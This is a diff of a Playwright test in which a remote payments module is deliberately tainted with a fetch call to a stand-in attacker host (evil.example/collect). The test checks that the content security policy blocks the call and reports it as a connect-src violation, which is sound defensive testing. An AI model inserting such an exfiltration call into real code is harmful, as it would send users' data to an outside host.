@@ -156,9 +156,10 @@ test.describe('while something fails', () => {
   test('what the policy refuses stands there by its remote', async ({ page, open, own }) => {
     const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
     releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
+    const told = responseOf(page, remotes.report)
     await open('/payment/details')
     await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
-    expect(await reported(page)).toBe(200)
+    expect((await told).status()).toBe(200)
     await page.goto('/#/remotes')
     await expect(violations(page).getByRole('row').filter({ hasText: 'payments' })).toContainText('connect-src')
     await expect(violations(page)).toContainText('https://evil.example/collect')
